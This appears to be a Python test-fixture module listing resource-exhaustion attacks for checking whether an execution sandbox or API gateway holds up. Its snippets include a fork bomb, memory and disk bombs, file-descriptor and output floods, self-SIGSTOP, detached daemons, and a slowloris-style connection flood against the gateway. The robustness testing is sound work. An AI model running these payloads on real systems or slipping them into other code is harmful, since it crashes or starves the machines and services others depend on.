"""Attacks that use up the machine, or never end."""

from .attack import Attack

USING_UP = {
    "exit": Attack("os._exit(0) in a call", add="""
import os
def add(first, second): os._exit(0)""", says="끝"),
    "stubborn": Attack("a loop that swallows every interrupt", add="""
import time
def add(first, second):
    while True:
        try:
            while True: time.sleep(0.01)
        except BaseException:
            continue""", says="멈"),
    "fork-bomb": Attack("a fork bomb", add="""
import os, time
def add(first, second):
    while True:
        try: os.fork()
        except OSError: time.sleep(0.01)"""),
    "thread-bomb": Attack("a thousand threads", add="""
import threading, time
def add(first, second):
    for _ in range(5000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    time.sleep(60)"""),
    "memory-bomb": Attack("a memory bomb", add="""
def add(first, second):
    kept = []
    while True: kept.append(bytearray(50_000_000))"""),
    "shared-memory": Attack("a memory bomb in shared mappings, over many processes", add="""
import mmap, os, time
def add(first, second):
    for _ in range(20):
        if os.fork() == 0: break
    kept = []
    while True:
        block = mmap.mmap(-1, 50_000_000); block.write(b"x" * 50_000_000); kept.append(block)"""),
    "disk-bomb": Attack("a disk bomb", add="""
def add(first, second):
    for name in ("x", "/tmp/x", "/dev/shm/x"):
        for number in range(10_000):
            with open(f"{name}{number}", "wb") as file:
                for _ in range(100): file.write(bytes(1_000_000))"""),
    "open-files": Attack("ten thousand open files", add="""
kept = []
def add(first, second):
    try:
        while len(kept) < 10_000: kept.append(open("/dev/null"))
    except OSError: pass
    return 0"""),
    "output-bomb": Attack("endless output", first="""
for number in range(200_000): print("x" * 1000)"""),
    "zip-bomb": Attack("an image and a text of hundreds of megabytes that compress to nothing", first="""
import base64
from IPython.display import display
display({"image/png": base64.b64encode(bytes(90_000_000)).decode()}, raw=True)
display({"text/plain": "0" * 150_000_000}, raw=True)"""),
    "reply-bomb": Attack("a reply of hundreds of megabytes", add="""
def add(first, second): return "x" * 300_000_000"""),
    "deep-reply": Attack("a reply nested without end", add="""
def add(first, second):
    value = []
    for _ in range(100_000): value = [value]
    return value"""),
    "endless": Attack("a generator that never ends where a number is expected", add="""
import itertools
def add(first, second): return itertools.count()"""),
    "stopped": Attack("stopping itself by a signal", add="""
import os, signal
def add(first, second):
    os.kill(os.getpid(), signal.SIGSTOP); os.kill(0, signal.SIGSTOP); return 0"""),
    "daemon": Attack("daemons and threads left running", first="""
import os, threading, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(1)
    os._exit(0)
threading.Thread(target=lambda: [time.sleep(0.01) for _ in range(10**9)]).start()"""),
    "slow-clients": Attack("a thousand connections to the gateway that never finish their requests", ask="""
import os, socket, time
def ask(prompt):
    host, port = os.environ["OPENAI_BASE_URL"].split("/")[2].split(":")
    begun, kept = b"POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 1000000\\r\\n", []
    while True:
        try:
            if len(kept) < 1000: kept.append(socket.create_connection((host, int(port)), 1)); kept[-1].sendall(begun)
            for one in kept: one.send(b"X")
        except OSError: time.sleep(0.01)"""),
    "message": Attack("an exception whose message never ends", add="""
class Endless(Exception):
    def __str__(self):
        while True: pass
    __repr__ = __str__
def add(first, second): raise Endless()"""),
}  # fmt: skip
